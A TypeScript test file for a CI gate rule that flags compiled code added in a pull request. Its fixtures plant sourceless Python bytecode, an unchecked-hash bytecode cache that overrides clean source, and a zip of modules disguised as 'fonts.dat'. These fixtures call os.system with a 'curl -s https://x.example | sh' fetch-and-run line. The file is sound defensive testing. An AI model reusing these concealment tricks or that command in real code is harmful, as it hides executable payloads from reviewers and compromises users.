import { execFileSync } from "node:child_process";
import { appendFileSync, mkdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { FakeGitHub } from "../action/fake-github";
import { runBuiltCli } from "../helpers/cli";
import { errorRules, gate, pullRequest, review } from "./pr";

// No scan reads compiled code, and Python imports `helper.pyc` next to the sources with no source at all: a change
// that adds compiled modules needs someone else to vouch for them (gate/compiled-code-added, base commit needed).

const api = new FakeGitHub();
beforeAll(() => api.start());
afterAll(() => api.stop());

/** Real bytecode: CPython's own compile of a module that calls os.system, placed where `import helper` finds it. */
function plantBytecode(dir: string) {
  writeFileSync(join(dir, "agent/helper.py"), "import os\n\n\ndef go(cmd):\n    return os.system(cmd)\n");
  execFileSync("python3", ["-c", "import py_compile, sys; py_compile.compile(sys.argv[1], cfile=sys.argv[2], doraise=True)", join(dir, "agent/helper.py"), join(dir, "agent/helper.pyc")]);
  rmSync(join(dir, "agent/helper.py"));
  writeFileSync(join(dir, "agent/use.py"), "import helper\n\nhelper.go('curl -s https://x.example | sh')\n");
}

describe("gate/compiled-code-added: compiled modules a change adds need another writer's review", () => {
  it("gate/compiled-code-added: sourceless Python bytecode the agent imports fails the built Action", async () => {
    const pr = await pullRequest(plantBytecode);
    // The attack is real: Python runs the call from the bytecode alone.
    expect(execFileSync("python3", ["-c", "import sys; sys.path.insert(0, sys.argv[1]); import helper; print(helper.go.__code__.co_names)", join(pr.dir, "agent")], { encoding: "utf8" })).toContain("system");
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(errorRules(r)).toEqual(["gate/compiled-code-added"]);
    expect(r.commands).toContain(
      "::error title=gate/compiled-code-added,file=agent/helper.pyc,line=1,endLine=1,col=1,endColumn=1::agent/helper.pyc is compiled code the change adds or edits: no scan can read it, so it needs an approving review by someone other than the author on the head commit",
    );
  });

  it("gate/compiled-code-added: a bytecode cache with an unchecked hash beside a clean helper.py (CPython runs the cache in its place) fails the built Action", async () => {
    let cache = "";
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/helper.py"), "def go(cmd):\n    return cmd\n");
      writeFileSync(join(dir, "agent/evil.py"), "import os\n\n\ndef go(cmd):\n    return os.system(cmd)\n");
      const compile = "import importlib.util, py_compile, sys; c = importlib.util.cache_from_source(sys.argv[2]); py_compile.compile(sys.argv[1], cfile=c, doraise=True, invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH); print(c)";
      cache = execFileSync("python3", ["-c", compile, join(dir, "agent/evil.py"), join(dir, "agent/helper.py")], { encoding: "utf8" }).trim().slice(dir.length + 1);
      rmSync(join(dir, "agent/evil.py"));
    });
    // The attack is real: `import helper` runs the cache's os.system, not the clean source.
    expect(execFileSync("python3", ["-c", "import sys; sys.path.insert(0, sys.argv[1]); import helper; print(helper.go.__code__.co_names)", join(pr.dir, "agent")], { encoding: "utf8" })).toContain("system");
    const r = await gate(api, pr);
    expect([r.code, errorRules(r)]).toEqual([1, ["gate/compiled-code-added"]]);
    expect(cache).toMatch(/^agent\/__pycache__\/helper\.cpython-\d+\.pyc$/);
    expect(r.commands).toContain(`::error title=gate/compiled-code-added,file=${cache},line=1,endLine=1,col=1,endColumn=1::${cache} is compiled code the change adds or edits: no scan can read it, so it needs an approving review by someone other than the author on the head commit`);
  });

  it("gate/compiled-code-added: a zip archive of Python modules named like data, put on Python's path by the agent, fails the built Action", async () => {
    const pr = await pullRequest((dir) => {
      mkdirSync(join(dir, "agent/vendor"));
      // Python's own zipfile packs the module; a comment and a `#!` line before the archive change nothing for zipimport.
      const pack = "import sys, zipfile\nwith zipfile.ZipFile(sys.argv[1], 'w') as z:\n    z.comment = b'assets'\n    z.writestr('tools.py', 'import os\\n\\n\\ndef run(cmd):\\n    return os.system(cmd)\\n')\n";
      execFileSync("python3", ["-c", pack, join(dir, "agent/vendor/fonts.dat")]);
      writeFileSync(join(dir, "agent/vendor/site.pyz"), Buffer.concat([Buffer.from("#!/usr/bin/env python3\n"), readFileSync(join(dir, "agent/vendor/fonts.dat"))]));
      writeFileSync(join(dir, "agent/use_fonts.py"), "import os, sys\n\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), 'vendor', 'fonts.dat'))\nimport tools\n\ntools.run('curl -s https://x.example | sh')\n");
    });
    // The attack is real: Python imports the module from the archive and calls os.system.
    expect(execFileSync("python3", ["-c", "import sys; sys.path.insert(0, sys.argv[1]); import tools; print(tools.run.__code__.co_names)", join(pr.dir, "agent/vendor/fonts.dat")], { encoding: "utf8" })).toContain("system");
    const r = await gate(api, pr);
    expect([r.code, errorRules(r)]).toEqual([1, ["gate/compiled-code-added", "gate/compiled-code-added"]]);
    const what = "a zip archive of Python modules, which Python imports from when it is on its path (`tools.py`)";
    for (const file of ["agent/vendor/fonts.dat", "agent/vendor/site.pyz"]) {
      expect(r.commands).toContain(`::error title=gate/compiled-code-added,file=${file},line=1,endLine=1,col=1,endColumn=1::${file} is ${what} the change adds or edits: no scan can read it, so it needs an approving review by someone other than the author on the head commit`);
    }
  });

  it("gate/compiled-code-added: a Node addon and a shared library are reported too (CLI check --base)", async () => {
    const pr = await pullRequest((dir) => {
      mkdirSync(join(dir, "agent/native"));
      writeFileSync(join(dir, "agent/native/pty.node"), Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0]));
      writeFileSync(join(dir, "agent/native/_speedups.cpython-311-x86_64-linux-gnu.so"), Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0]));
    });
    const r = runBuiltCli(["check", pr.dir, "--base", pr.base, "--changed-only", "--format", "json"]);
    const findings = JSON.parse(r.stdout).findings as { rule: string; file: string }[];
    expect(r.code).toBe(1);
    expect(findings.filter((f) => f.rule.startsWith("gate/")).map((f) => `${f.file} ${f.rule}`)).toEqual([
      "agent/native/_speedups.cpython-311-x86_64-linux-gnu.so gate/compiled-code-added",
      "agent/native/pty.node gate/compiled-code-added",
    ]);
  });

  it("gate/compiled-code-added is clean for source-only changes, a zip of data, and binaries the base's configuration excludes", async () => {
    const pr = await pullRequest(
      (dir) => {
        writeFileSync(join(dir, "agent/shout.py"), "def shout(text):\n    return text.upper()\n");
        mkdirSync(join(dir, "agent/prebuilt"));
        writeFileSync(join(dir, "agent/prebuilt/codec.so"), Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0]));
        // A zip of data, no Python modules in it.
        execFileSync("python3", ["-c", "import sys, zipfile\nwith zipfile.ZipFile(sys.argv[1], 'w') as z: z.writestr('prompts/system.txt', 'Be brief.')", join(dir, "agent/prompts.zip")]);
      },
      (dir) => appendFileSync(join(dir, ".flowgate.yml"), 'exclude: ["agent/prebuilt/**"]\n'),
    );
    const r = await gate(api, pr);
    expect([r.code, errorRules(r)]).toEqual([0, []]);
  });

  it("gate/compiled-code-added clears with an approving review on the head commit by a member who is not the author; the author's own does not", async () => {
    const pr = await pullRequest(plantBytecode);
    const own = await gate(api, pr, {}, { reviews: [review("octocat", pr.head)] });
    expect([own.code, errorRules(own)]).toEqual([1, ["gate/compiled-code-added"]]);
    const approved = await gate(api, pr, {}, { reviews: [review("maintainer1", pr.head)] });
    expect(approved.code).toBe(0);
  });
});
